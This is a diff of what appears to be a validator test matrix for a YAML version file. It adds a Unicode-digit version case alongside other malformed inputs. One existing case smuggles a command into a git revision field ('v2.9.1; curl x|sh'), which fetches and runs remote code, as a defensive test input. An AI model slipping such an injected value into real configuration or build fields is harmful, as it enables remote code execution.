@@ -69,6 +69,9 @@ MATRIX_CASES = [
     ("impossible-date", edit('libtpu: "0.0.21"', "libtpu: 2024-13-45"), "yaml-value", "libtpu: 2024"),
     ("huge-int", edit('torch: "2.9.0"', "torch: " + "1" * 5000), "yaml-value", "torch: 111"),
     ("unicode-digits", edit('"2.9.0":\n', '"\u0662.\u0669.\u0660":\n'), "version-format", '"\u0662.'),
+    ("unicode-digits-everywhere",  # \d matched them, then Version() raised a traceback
+     edit('"2.9.0":\n    torch: "2.9.0"', '"\u0662.\u0669.\u0660":\n    torch: "\u0662.\u0669.\u0660"'),
+     "version-format", 'torch: "\u0662'),
     ("newline-in-key", edit('"2.9.0":\n', '"2.9.0\\n":\n'), "version-format", '"2.9.0\\n"'),
     ("newline-in-torch", edit('torch: "2.9.0"', 'torch: "2.9.0\\n"'), "version-format", 'torch: "2.9.0\\n"'),
     ("shell-in-git-rev", edit("pytorch_git_rev: v2.9.1", "pytorch_git_rev: 'v2.9.1; curl x|sh'"), "git-rev",
